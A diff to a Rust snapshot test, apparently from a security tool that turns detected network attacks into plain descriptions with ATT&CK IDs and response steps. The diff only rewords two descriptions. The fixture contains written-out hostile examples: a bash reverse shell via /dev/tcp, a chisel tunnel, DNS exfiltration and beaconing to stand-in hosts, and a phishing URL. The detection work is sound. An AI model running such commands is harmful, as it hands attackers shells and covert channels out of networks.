@@ -193,7 +193,7 @@ fn attacks_over_the_network_read_well() {
     insta::assert_snapshot!(describe_pairs(&pairs()[22..]), @r#"
     T1071.004 (leaning malicious): Queries carry data in the names that they ask for: dns query mzxw6ytboi4dqnbzgq3tsmrrgezdgnbvgy3tqojq.x1.t.bad.example, count 5120
         isolate-host block-domain contact-owner preserve-logs
-    T1071.001 (leaning malicious): The same far end is called at regular intervals, as a program does that waits for orders: seconds between 60, count 480, domain cdn-sync.bad.example
+    T1071.001 (leaning malicious): The same address is called at regular intervals, as a program does that waits for orders: seconds between 60, count 480, domain cdn-sync.bad.example
         isolate-host block-domain block-ip contact-owner preserve-logs
     T1566.002 (leaning malicious): A link leads to a page that passes itself off as somebody else's: https://login-corp.secure-mail.example/verify?email=a.rossi@corp.example
         purge-mail reset-credentials
@@ -211,7 +211,7 @@ fn attacks_over_the_network_read_well() {
         block-source-ip suspend-sessions reset-credentials contact-owner preserve-logs
     T1550.002 (leaning malicious): A sign-in over NTLM looks like one with the hash of a password: logon type NTLM, NewCredentials (type 9)
         isolate-host disable-account rotate-login-credentials contact-owner preserve-logs
-    T1059.004 (true positive): A shell is handed to somebody at a far end: bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
+    T1059.004 (true positive): A shell is handed to somebody on the other side: bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
         isolate-host collect-memory contact-owner preserve-logs
     T1572 (leaning malicious): A tunnel out of the network is opened: ./chisel client 203.0.113.8:443 R:socks
         isolate-host contact-owner preserve-logs
